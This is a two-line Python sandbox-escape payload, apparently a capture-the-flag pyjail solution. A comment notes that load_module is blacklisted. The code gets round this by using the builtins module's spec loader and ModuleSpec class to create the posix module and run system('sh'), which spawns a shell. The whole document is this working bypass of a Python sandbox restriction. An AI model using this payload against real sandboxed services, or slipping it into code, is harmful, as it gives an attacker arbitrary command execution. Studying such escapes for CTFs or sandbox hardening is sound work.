# restriction: load_module blacklisted; idea: use builtins __spec__ loader and the ModuleSpec class from it to create the posix module
(s:=print.__self__.__spec__).loader.create_module(s.__class__('posix',None)).system('sh')
